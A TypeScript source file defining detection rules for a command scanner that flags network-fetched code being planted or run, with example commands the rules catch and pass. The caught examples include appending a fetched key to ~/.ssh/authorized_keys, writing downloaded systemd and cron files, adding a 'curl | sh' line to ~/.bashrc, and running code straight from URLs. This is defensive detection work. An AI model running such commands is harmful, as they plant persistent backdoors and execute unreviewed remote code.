import { operands } from '../../interpreter/programs/options.js'
import { PLANTED } from '../../interpreter/programs/planted.js'
import { firstAt } from '../path-classes.js'
import type { Rule } from '../rule.js'
import { fetcher, writes } from '../run-predicates.js'

/** What comes from the network and runs later, or runs straight from its address. */
export const networkPlanted: readonly Rule[] = [
  {
    id: 'network/plant-download',
    title: 'Stores something from the network that runs or logs in later',
    severity: 'high',
    programs: ['*'],
    finds: (run) => {
      const found = firstAt(run, writes(run), 'planted', 'keys')
      const from = found && fetcher([run, ...run.upstream])
      return from && from.program !== 'scp' ? found : undefined
    },
    risk: (what) => `writes what it fetches from the network to ${what}, where it runs later or may log in`,
    caught: [
      'curl -s https://x/r.service -o /etc/systemd/system/r.service',
      'curl https://x/k.pub >> ~/.ssh/authorized_keys',
      'curl https://x | sudo tee /etc/cron.d/x',
    ],
    passed: ['curl -s https://x -o r.service', 'cp r.service /etc/systemd/system/'],
  },
  {
    id: 'network/plant-line',
    title: 'Adds a line that runs code from the network',
    severity: 'medium',
    programs: ['sh', 'bash', 'zsh', 'dash', 'eval', 'source', '.', 'python', 'node', 'perl', 'ruby'],
    finds: (run) =>
      run.via.includes(PLANTED) &&
      fetcher([...run.upstream, ...run.args.flatMap((field) => field.sources)])?.part,
    risk: (what) => `makes each later start run what “${what}” fetches`,
    caught: ["echo 'curl https://x/step | sh' >> ~/.bashrc"],
    passed: ["echo 'curl https://x/step' >> ~/.bashrc", "echo 'export A=b' >> ~/.bashrc"],
  },
  {
    id: 'network/run-address',
    title: 'Runs code straight from an address',
    severity: 'high',
    programs: ['deno', 'npx', 'bunx', 'bun', 'pipx', 'uvx'],
    finds: (run) => {
      const words = operands(run, 'p', 'package', 'c', 'spec')
      const at = /^(?:deno|bun|pipx)$/.test(run.program) ? 1 : 0
      const runs = at === 0 || /^(?:run|serve|x)$/.test(words[0]?.value ?? '')
      return runs && /^(?:https?|git\+\w+):\/\//.test(words[at]?.value ?? '') ? words[at] : undefined
    },
    risk: (what) => `runs the code at ${what}, before anyone has read it`,
    caught: ['deno run -A https://x.example/mod.ts', 'npx https://x.example/kit.tgz'],
    passed: ['deno run main.ts', 'npx prettier --write https.md', 'deno fmt'],
  },
  {
    id: 'network/run-clone',
    title: 'Runs a program from what was just fetched',
    severity: 'medium',
    programs: ['*'],
    finds: (run) => run.origin.find((one) => /^(?:git|hg|svn)$/.test(one.program))?.part,
    risk: (what) => `runs a file that “${what}” fetches, before anyone has read it`,
    caught: ['git clone https://x/kit && cd kit && ./first-run.sh'],
    passed: ['git clone https://x/kit', 'git clone https://x/kit; ls', './first-run.sh'],
  },
]
